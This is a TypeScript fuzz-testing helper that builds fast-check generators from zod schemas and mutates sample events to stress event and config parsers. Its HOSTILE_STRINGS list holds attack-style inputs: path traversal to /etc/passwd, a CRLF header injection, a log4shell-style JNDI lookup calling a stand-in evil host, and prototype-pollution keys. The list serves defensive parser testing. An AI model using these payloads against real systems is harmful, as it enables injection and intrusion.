/**
 * fast-check arbitraries derived from the zod/mini schemas the functions parse with (events and
 * config), plus two kinds of noise: a sample event with a few fields replaced by hostile or
 * ill-typed values, and arbitrary JSON. The schema walk reads zod's own definition (`_zod.def`):
 * object shapes (optional keys stay optional, loose objects get extra keys), string patterns and
 * lengths, integer bounds, enums, arrays, records, unions, nullable and optional.
 */
import fc from 'fast-check';
import type * as z from 'zod/mini';

/** Values that have broken parsers and host builders elsewhere: traversal, hosts, control bytes, size. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '../../etc/passwd',
  '%2e%2e%2f',
  'evil.example.com',
  'cn-hangzhou.evil.example.com',
  'us-east-1.evil.example.com/',
  '127.0.0.1:22',
  'user@evil.example.com',
  'a\u0000b',
  'x\r\nHost: evil.example.com',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, taken literally.
  '${jndi:ldap://evil.example.com/a}',
  '__proto__',
  'constructor',
  'CN-HANGZHOU',
  ' cn-hangzhou',
  'cn-hangzhou\n',
  '日本語-ログ',
  `c${'a'.repeat(32)}`,
  `c${'0'.repeat(31)}/`,
  'acs:osstables:cn-hangzhou:1234567890123456:bucket/../x',
  'acs:osstables:evil.example.com:1234567890123456:bucket/x',
  'arn:aws:kms:us-east-1:111122223333:key/../../x',
  'x'.repeat(300),
  'y'.repeat(5000),
] as const;

export const hostileString = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  );

/** Any JSON-ish value, hostile strings included. */
export const junk = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.jsonValue({ maxDepth: 3 }),
    hostileString(),
    fc.constantFrom(undefined, null, Number.NaN, -0, Number.POSITIVE_INFINITY, 2 ** 53 + 1, true, [], {}),
  );

type Def = { type: string } & Record<string, unknown>;
type Schema = z.ZodMiniType;

const defOf = (schema: unknown): Def => (schema as { _zod: { def: Def } })._zod.def;

/** Per dotted path (`data.requestParameters`), values that reach deeper into a parser than random ones. */
export type Hints = Record<string, fc.Arbitrary<unknown>>;

function stringArbitrary(def: Def): fc.Arbitrary<string> {
  let minLength = 0;
  let maxLength = 64;
  let pattern: RegExp | undefined;
  for (const check of (def.checks as unknown[] | undefined) ?? []) {
    const c = defOf(check) as unknown as {
      check: string;
      minimum?: number;
      maximum?: number;
      pattern?: RegExp;
    };
    if (c.check === 'min_length' && c.minimum !== undefined) minLength = c.minimum;
    if (c.check === 'max_length' && c.maximum !== undefined) maxLength = Math.min(c.maximum, 300);
    if (c.check === 'string_format' && c.pattern instanceof RegExp) pattern = c.pattern;
  }
  const free = fc.string({ minLength, maxLength: Math.max(minLength, maxLength) });
  return pattern ? fc.oneof({ weight: 4, arbitrary: fc.stringMatching(pattern) }, free) : free;
}

function numberArbitrary(def: Def): fc.Arbitrary<number> {
  let min: number | undefined;
  let max: number | undefined;
  let int = false;
  for (const check of (def.checks as unknown[] | undefined) ?? []) {
    const c = defOf(check) as unknown as { check: string; value?: number; format?: string };
    if (c.check === 'number_format' && (c.format === 'safeint' || c.format === 'int32')) int = true;
    if (c.check === 'greater_than' && c.value !== undefined) min = c.value;
    if (c.check === 'less_than' && c.value !== undefined) max = c.value;
  }
  return int
    ? fc.integer({ min: min ?? -1000, max: max ?? 1000 })
    : fc.double({ min: min ?? -1e6, max: max ?? 1e6, noNaN: true });
}

/** An arbitrary for values of `schema`; `hints` add targeted values at dotted paths. */
export function arbitraryFor(schema: unknown, hints: Hints = {}, path = ''): fc.Arbitrary<unknown> {
  const derived = derive(schema, hints, path);
  const hint = hints[path];
  return hint ? fc.oneof({ weight: 3, arbitrary: hint }, { weight: 1, arbitrary: derived }) : derived;
}

function derive(schema: unknown, hints: Hints, path: string): fc.Arbitrary<unknown> {
  const def = defOf(schema);
  const at = (key: string) => (path === '' ? key : `${path}.${key}`);
  switch (def.type) {
    case 'object': {
      const shape = def.shape as Record<string, Schema>;
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      const required: string[] = [];
      for (const [key, child] of Object.entries(shape)) {
        const optional = defOf(child).type === 'optional';
        model[key] = arbitraryFor(optional ? defOf(child).innerType : child, hints, at(key));
        if (!optional) required.push(key);
      }
      const base = fc.record(model, { requiredKeys: required });
      const loose = def.catchall !== undefined && defOf(def.catchall).type === 'unknown';
      if (!loose) return base;
      return fc
        .tuple(
          base,
          fc.dictionary(fc.string({ maxLength: 12 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 2 }),
        )
        .map(([known, extra]) => ({ ...extra, ...known }));
    }
    case 'optional':
      return fc.option(arbitraryFor(def.innerType, hints, path), { nil: undefined });
    case 'nullable':
      return fc.option(arbitraryFor(def.innerType, hints, path), { nil: null });
    case 'string':
      return stringArbitrary(def);
    case 'number':
      return numberArbitrary(def);
    case 'boolean':
      return fc.boolean();
    case 'enum':
      return fc.constantFrom(...Object.values(def.entries as Record<string, string>));
    case 'literal':
      return fc.constantFrom(...(def.values as unknown[]));
    case 'array':
      return fc.array(arbitraryFor(def.element, hints, `${path}[]`), { maxLength: 3 });
    case 'record':
      return fc.dictionary(
        arbitraryFor(def.keyType, hints, `${path}{}`) as fc.Arbitrary<string>,
        arbitraryFor(def.valueType, hints, `${path}.*`),
        { maxKeys: 3 },
      );
    case 'union':
      return fc.oneof(...(def.options as Schema[]).map((o) => arbitraryFor(o, hints, path)));
    default:
      // unknown, any and anything this walk does not model
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Every path to a value in a JSON document (`a.b.0.c`). */
export function pathsOf(value: unknown, prefix: string[] = []): string[][] {
  if (typeof value !== 'object' || value === null) return [prefix];
  const entries = Array.isArray(value) ? value.map((v, i) => [String(i), v] as const) : Object.entries(value);
  return [prefix, ...entries.flatMap(([k, v]) => pathsOf(v, [...prefix, k]))];
}

const DELETE = Symbol('delete');

function edit(document: unknown, path: readonly string[], value: unknown): unknown {
  if (path.length === 0) return value === DELETE ? undefined : value;
  const [head = '', ...rest] = path;
  const source: object = typeof document === 'object' && document !== null ? document : {};
  const copy = (Array.isArray(source) ? [...source] : { ...source }) as Record<string, unknown>;
  const next = edit(copy[head], rest, value);
  if (next === undefined && value === DELETE && rest.length === 0) delete copy[head];
  // defineProperty: a `__proto__` key becomes an own property, as JSON.parse makes it.
  else
    Object.defineProperty(copy, head, { value: next, enumerable: true, writable: true, configurable: true });
  return copy;
}

/** `sample` with 1–4 of its fields (or new `__proto__`/extra keys) replaced, deleted or retyped. */
export function mutated(sample: unknown): fc.Arbitrary<unknown> {
  const paths = pathsOf(sample).filter((p) => p.length > 0);
  const target = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...paths) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...paths), fc.constantFrom('__proto__', 'constructor', 'extra'))
        .map(([p, k]) => [...p.slice(0, -1), k]),
    },
  );
  const replacement = fc.oneof(fc.constant<unknown>(DELETE), junk());
  return fc
    .array(fc.tuple(target, replacement), { minLength: 1, maxLength: 4 })
    .map((edits) => edits.reduce<unknown>((doc, [p, v]) => edit(doc, p, v), structuredClone(sample)));
}

/** The three sources every parser is fuzzed with. */
export function inputsFor(schema: unknown, sample: unknown, hints: Hints = {}): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 3, arbitrary: arbitraryFor(schema, hints) },
    { weight: 3, arbitrary: mutated(sample) },
    { weight: 1, arbitrary: junk() },
  );
}
